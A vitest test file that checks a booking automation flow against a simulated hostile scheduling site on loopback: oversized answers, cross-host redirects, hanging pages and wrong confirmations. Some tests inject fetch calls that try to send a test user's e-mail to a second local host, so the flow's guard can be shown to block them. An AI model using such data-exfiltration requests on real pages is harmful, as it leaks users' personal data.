import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createBrowserPool, findChromium, type BrowserLease, type ChromiumPool } from '../src/booking/browser.js';
import { createAcuitySpaFlow, type AcuitySpaTarget } from '../src/booking/flows/acuity-spa.js';
import { createManualClock, systemClock, type ManualClock } from '../src/clock.js';
import { createAcuitySpaSite, type AcuitySpaSite } from '../src/sandbox/acuity-spa/site.js';
import { SPA_OWNER, spaClub } from './helpers/acuity-spa.js';

/**
 * A hostile site: answers that must never wedge a reservation, book a user twice or leak a user's data. Each
 * case is driven by a look-alike switch (docs/acuity-site.md "Hostile answers") and checked on the outcome the
 * flow reports (what the executor records) and on the time it took. "Another host" is a second server on
 * 127.0.0.1 (another origin) reached as `localhost` (another host name): all traffic stays on loopback.
 */

const CLUB = spaClub(2);
/** 2027-07-21 09:00 in Guatemala: 2027-07-23 09:00 is released this instant. */
const T0 = Date.parse('2027-07-21T15:00:00Z');
const C1 = CLUB.courts[0]!;
const USER = { firstName: 'Ana', lastName: 'Pérez', email: 'ana@example.test', phone: '+502 5555 1234' };
const logger = { info: () => undefined, warn: () => undefined };
/** The flow's hook budget in this file, ms (short, so the hang cases take seconds). */
const HOOK_MS = 2000;

interface Seen { method: string; url: string; body: string }

let clock: ManualClock;
let site: AcuitySpaSite;
let url: string;
let pool: ChromiumPool;
let lease: BrowserLease;
let other: Server;
/** The other server as another host: `http://localhost:<port>`. */
let otherUrl: string;
let otherSeen: Seen[] = [];
const guardLog: object[] = [];

const target = (time: string, over: Partial<AcuitySpaTarget> = {}): AcuitySpaTarget => ({
  baseUrl: url, ownerKey: SPA_OWNER, court: 1, appointmentTypeId: C1.appointmentTypeId, calendarId: C1.calendarId,
  date: '2027-07-23', time, utcOffset: '-06:00', ...over,
});
const posts = () => site.state.xhrs().filter((x) => x.method === 'POST');
const go = { user: USER, onBeforeSubmit: async () => true, timeoutMs: 10_000 };
/** Whether any request the other host got carries the user's e-mail, phone or names. */
const leaked = (): boolean => otherSeen.some((s) => /ana@example|5555|Ana|P%C3%A9rez|Pérez/i.test(`${decodeURIComponent(s.url)} ${s.body}`));

let flow = createAcuitySpaFlow({ clock: systemClock, hookTimeoutMs: HOOK_MS, logger: { warn: (obj) => void guardLog.push(obj) } });

beforeAll(async () => {
  clock = createManualClock(T0);
  site = createAcuitySpaSite({ clock, venues: [CLUB], confirmationOrigin: 'http://127.0.0.1:9' });
  url = await site.start(0);
  pool = createBrowserPool({ executablePath: findChromium(null), headless: true, logger });
  other = createServer((req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString()));
    req.on('end', () => {
      otherSeen.push({ method: req.method ?? '', url: req.url ?? '', body });
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' });
      res.end('<!doctype html><html><head><title>Otro</title></head><body><div id="secondo-container"><div id="your-information-form-container"><input id="client.firstName"></div></div></body></html>');
    });
  });
  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
  otherUrl = `http://localhost:${(other.address() as AddressInfo).port}`;
}, 60_000);
afterAll(async () => {
  await pool?.close();
  await site?.stop();
  await new Promise((resolve) => other?.close(resolve));
});
beforeEach(async () => {
  clock.set(T0);
  site.reset();
  site.state.setSwitches({ limiter: { enabled: false } });
  otherSeen = [];
  guardLog.length = 0;
  flow = createAcuitySpaFlow({ clock: systemClock, hookTimeoutMs: HOOK_MS, logger: { warn: (obj) => void guardLog.push(obj) } });
  lease = await pool.acquire();
  return async () => {
    await lease.release();
  };
});

/** The daemon's resident memory growth while `run` runs, MB (sampled every 10 ms against the value before). */
async function rssGrowthMb<T>(run: () => Promise<T>): Promise<{ result: T; growthMb: number }> {
  const beforeRss = process.memoryUsage().rss;
  let peak = beforeRss;
  const timer = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 10);
  try {
    const result = await run();
    peak = Math.max(peak, process.memoryUsage().rss);
    return { result, growthMb: Math.round((peak - beforeRss) / 1e5) / 10 };
  } finally {
    clearInterval(timer);
  }
}

/** Makes the look-alike allocate its 50 MiB padding once (an answer it starts and the client drops), outside the measurement. */
async function warmPadding(): Promise<void> {
  const huge = site.state.switches().hugeAnswer;
  site.state.setSwitches({ hugeAnswer: { times: true } });
  const times = `${url}/api/scheduling/v1/availability/times?owner=${SPA_OWNER}&appointmentTypeId=${C1.appointmentTypeId}&calendarId=${C1.calendarId}&startDate=2027-07-23&maxDays=1`;
  const response = await fetch(times);
  expect(response.headers.get('content-length')).toBe(String(50 * 1024 * 1024));
  await response.body?.cancel();
  site.state.setSwitches({ hugeAnswer: huge });
}

describe('a 50 MB answer', () => {
  it('to the times XHR: the page copes, the daemon never reads it; booked', async () => {
    site.state.setSwitches({ hugeAnswer: { times: true } });
    await warmPadding();
    const startMs = systemClock.now();
    const { result, growthMb } = await rssGrowthMb(async () => flow.submit(await flow.prepare(lease, target('09:00')), go));
    console.log(`times XHR of 50 MiB: daemon RSS growth ${growthMb} MB, ${systemClock.now() - startMs} ms`);
    expect(result).toMatchObject({ outcome: 'booked', submitted: true, confirmationCode: site.state.bookings()[0]!.hash });
    expect(growthMb).toBeLessThan(60);
    // Prepare's navigation and hook budgets plus the submit's: never more.
    expect(systemClock.now() - startMs).toBeLessThan(15_000 + 2 * HOOK_MS + 10_000);
  }, 60_000);

  it('to the booking POST: not read (over 1 MiB); the confirmation route\'s hash, checked by the look-up, makes it booked', async () => {
    site.state.setSwitches({ hugeAnswer: { booking: true } });
    await warmPadding();
    const handle = await flow.prepare(lease, target('09:00'));
    const hashes: string[] = [];
    const startMs = systemClock.now();
    const { result, growthMb } = await rssGrowthMb(() => flow.submit(handle, { ...go, onAnswer: (h) => void hashes.push(h) }));
    console.log(`booking answer of 50 MiB: daemon RSS growth ${growthMb} MB, ${systemClock.now() - startMs} ms`);
    const booked = site.state.bookings();
    expect(booked).toHaveLength(1);
    expect(result).toMatchObject({ outcome: 'booked', submitted: true, confirmationCode: booked[0]!.hash });
    expect(hashes).toEqual([booked[0]!.hash]);
    expect(growthMb).toBeLessThan(60);
    expect(systemClock.now() - startMs).toBeLessThan(HOOK_MS + 10_000);
  }, 60_000);

  it('to the booking POST, and the look-up by the route\'s hash lists another slot → site_changed, never booked', async () => {
    site.state.setSwitches({ hugeAnswer: { booking: true }, misconfirm: 'lookupOtherSlot' });
    const result = await flow.submit(await flow.prepare(lease, target('09:00')), go);
    const hash = site.state.bookings()[0]!.hash;
    expect(result).toMatchObject({ outcome: 'site_changed', submitted: true, confirmationCode: null });
    expect(result.message).toBe(`site changed: looked up by its hash: the site confirmed 2027-07-23 08:00 type ${C1.appointmentTypeId} calendar ${C1.calendarId}, not the requested 2027-07-23 09:00 type ${C1.appointmentTypeId} calendar ${C1.calendarId} (court 1); hash ${hash}`);
  }, 60_000);
});

describe('a redirect to another host: nothing of the user leaves the venue\'s host', () => {
  it('of the page navigation → site_changed naming the host; the other host gets one GET without the user\'s data', async () => {
    site.state.setSwitches({ redirect: { target: 'page', to: otherUrl } });
    const prefilled = createAcuitySpaFlow({ clock: systemClock, hookTimeoutMs: HOOK_MS, prefillUser: USER });
    const startMs = systemClock.now();
    const handle = await prefilled.prepare(lease, target('09:00'));
    const result = await prefilled.submit(handle, go);
    const host = new URL(otherUrl).host;
    expect(result).toMatchObject({ outcome: 'site_changed', submitted: false, confirmationCode: null });
    expect(result.message).toBe(`site changed: the page went to another host, ${host} (nothing is sent there)`);
    expect(handle.prepareError).toBe(result.message);
    expect(systemClock.now() - startMs).toBeLessThan(2 * HOOK_MS + 3000);
    expect(otherSeen.map((s) => s.method)).toEqual(['GET', 'GET']);
    expect(leaked()).toBe(false);
    expect(posts()).toEqual([]);
  }, 40_000);

  it('of the times XHR → failed before it is followed; site_changed naming the host; the other host gets nothing', async () => {
    site.state.setSwitches({ redirect: { target: 'times', to: otherUrl } });
    const handle = await flow.prepare(lease, target('09:00'));
    const result = await flow.submit(handle, go);
    expect(result).toMatchObject({ outcome: 'site_changed', submitted: false });
    expect(result.message).toBe(`site changed: the site redirected GET /api/scheduling/v1/availability/times to another host, ${new URL(otherUrl).host} (not followed)`);
    expect(otherSeen).toEqual([]);
    expect(handle.guard?.counts()).toEqual({ [new URL(otherUrl).host]: 2 });
    // Logged once, the host only.
    expect(guardLog).toEqual([{ host: new URL(otherUrl).host, venue_host: new URL(url).host, kind: 'redirect' }]);
  }, 40_000);

  it('of the booking POST (307) → not followed, the body never reaches the other host; site_changed, submitted', async () => {
    const handle = await flow.prepare(lease, target('09:00'));
    expect(handle.preparedView).toBe('form');
    site.state.setSwitches({ redirect: { target: 'booking', to: otherUrl } });
    const result = await flow.submit(handle, go);
    expect(result).toMatchObject({ outcome: 'site_changed', submitted: true, confirmationCode: null });
    expect(result.message).toBe(`site changed: the site redirected the booking POST to another host, ${new URL(otherUrl).host} (not followed; nothing was posted there)`);
    expect(otherSeen).toEqual([]);
    expect(posts().map((x) => x.status)).toEqual([307]);
    expect(site.state.bookings()).toEqual([]);
  }, 40_000);

  it('a request of the page to another host is aborted (a script of the venue posting the form elsewhere)', async () => {
    const handle = await flow.prepare(lease, target('09:00'));
    const page = await lease.page();
    const sent = await page.evaluate(async (to) => {
      const tries = [fetch(`${to}/collect?e=ana@example.test`), fetch(`${to}/collect`, { method: 'POST', body: 'x' })];
      return Promise.all(tries.map((t) => t.then((r) => r.status, () => 'failed')));
    }, otherUrl);
    expect(sent).toEqual(['failed', 'failed']);
    expect(otherSeen).toEqual([]);
    expect(handle.guard?.counts()).toEqual({ [new URL(otherUrl).host]: 2 });
  }, 40_000);

  it('site.allowedHosts / allowedPostHosts: a listed host gets GETs and POSTs without the user\'s data, never with it', async () => {
    const host = new URL(otherUrl).host;
    const handle = await flow.prepare(lease, target('09:00', { allowedHosts: [host], allowedPostHosts: [host] }), USER);
    const page = await lease.page();
    const sent = await page.evaluate(async (to) => {
      const tries = [
        fetch(`${to}/static/app.css`), fetch(`${to}/reload?k=key`, { method: 'POST', body: 'token-request' }),
        fetch(`${to}/collect?e=ana@example.test`), fetch(`${to}/collect`, { method: 'POST', body: '{"email":"ana@example.test"}' }),
        fetch(`${to}/collect`, { method: 'PUT', body: 'x' }),
      ];
      return Promise.all(tries.map((t) => t.then((r) => r.status, () => 'failed')));
    }, otherUrl);
    expect(sent).toEqual([200, 200, 'failed', 'failed', 'failed']);
    expect(otherSeen).toEqual([{ method: 'GET', url: '/static/app.css', body: '' }, { method: 'POST', url: '/reload?k=key', body: 'token-request' }]);
    expect(handle.guard?.counts()).toEqual({ [host]: 3 });
  }, 40_000);
});

describe('a page that never finishes loading', () => {
  for (const hang of ['document', 'script'] as const) {
    it(`(${hang} hangs): prepare gives up within one hook budget, submit within two more (a scheduler shell still rendering gets a second); site_changed`, async () => {
      site.state.setSwitches({ hang });
      const startMs = systemClock.now();
      const handle = await flow.prepare(lease, target('09:00'));
      const preparedMs = systemClock.now() - startMs;
      expect(handle.preparedView).toBe('missing');
      // Slack of 4 s for a loaded 2-core machine (Chromium's own start-up); a page that is waited on for ever
      // runs into the test's 40 s timeout instead.
      expect(preparedMs).toBeLessThan(HOOK_MS + 4000);
      const result = await flow.submit(handle, go);
      expect(result).toMatchObject({ outcome: 'site_changed', submitted: false });
      expect(systemClock.now() - startMs - preparedMs).toBeLessThan(2 * HOOK_MS + 4000);
      expect(posts()).toEqual([]);
    }, 40_000);
  }
});

describe('HTML that is not the scheduler, with status 200', () => {
  it('a login wall and a maintenance page → site_changed saying what the page is', async () => {
    const path = `/schedule/${SPA_OWNER}/appointment/${C1.appointmentTypeId}/calendar/${C1.calendarId}`;
    for (const [pageAnswer, title] of [['login', 'Iniciar sesión'], ['maintenance', 'Mantenimiento']] as const) {
      site.state.setSwitches({ pageAnswer });
      const handle = await flow.prepare(lease, target('09:00'));
      expect(handle.preparedView).toBe('missing');
      const result = await flow.submit(handle, go);
      expect(result).toMatchObject({ outcome: 'site_changed', submitted: false });
      expect(result.message).toBe(`site changed: the page at ${path} is not the scheduler (title "${title}", no #secondo-container)`);
    }
    expect(posts()).toEqual([]);
  }, 40_000);
});

describe('a confirmation of something else', () => {
  it('for the next slot, or for another client → site_changed (never booked), submitted', async () => {
    const wanted = `2027-07-23 09:00 type ${C1.appointmentTypeId} calendar ${C1.calendarId}`;
    const cases = [
      ['answerOtherSlot', `the site confirmed 2027-07-23 10:00 type ${C1.appointmentTypeId} calendar ${C1.calendarId}, not the requested ${wanted} (court 1)`],
      ['answerOtherClient', 'the site\'s booking is for another client (email, firstName, lastName differ)'],
    ] as const;
    for (const [misconfirm, message] of cases) {
      site.reset();
      site.state.setSwitches({ limiter: { enabled: false }, misconfirm });
      const result = await flow.submit(await flow.prepare(lease, target('09:00')), go);
      const hash = site.state.bookings()[0]!.hash;
      expect(result).toMatchObject({ outcome: 'site_changed', submitted: true, confirmationCode: null, message: `${message}; hash ${hash}` });
    }
  }, 40_000);
});

describe('the venue\'s request budget (site.requestBudget)', () => {
  it('a tiny budget: requests over it are not sent, the attempt ends rate_limited; shared by every reservation of the venue', async () => {
    const tiny = (over: Partial<AcuitySpaTarget> = {}): AcuitySpaTarget => target('09:00', { requestBudget: { requests: 4, perS: 60 }, ...over });
    const handle = await flow.prepare(lease, tiny());
    expect(handle.prepareError).toMatch(/^the venue's request budget \(4 requests per 60 s, site\.requestBudget\) is spent: (GET|HEAD) \/\S+ was not sent; room again in \d+ ms$/);
    // The calendar reload of every retry is refused before it leaves the browser.
    for (let retry = 0; retry < 5; retry++) {
      const result = await flow.submit(handle, go);
      expect(result).toMatchObject({ outcome: 'rate_limited', submitted: false, confirmationCode: null });
      expect(result.message).toMatch(/^the venue's request budget \(4 requests per 60 s, site\.requestBudget\) is spent: GET \/schedule\/a3f09c1e\/appointment\/70000101\/calendar\/9000201 was not sent; room again in \d+ ms$/);
      expect(result.retryAfterMs).toBeGreaterThan(50_000);
      expect(result.retryAfterMs).toBeLessThanOrEqual(60_000);
    }
    // A second reservation of the same venue (another page) shares the budget: refused at once.
    const second = await pool.acquire();
    try {
      const other2 = await flow.prepare(second, tiny({ court: 2, appointmentTypeId: CLUB.courts[1]!.appointmentTypeId, calendarId: CLUB.courts[1]!.calendarId }));
      expect(other2.prepareError).toMatch(/^the venue's request budget \(4 requests per 60 s/);
    } finally {
      await second.release();
    }
    expect(site.state.publicRequests()).toBe(4);
    expect(handle.budget.refused()).toBeGreaterThanOrEqual(7);
    expect(posts()).toEqual([]);
  }, 60_000);

  it('the default budget (300 per 60 s) lets a booking through', async () => {
    const result = await flow.submit(await flow.prepare(lease, target('09:00')), go);
    expect(result.outcome).toBe('booked');
    expect(site.state.publicRequests()).toBeLessThan(20);
  }, 40_000);
});
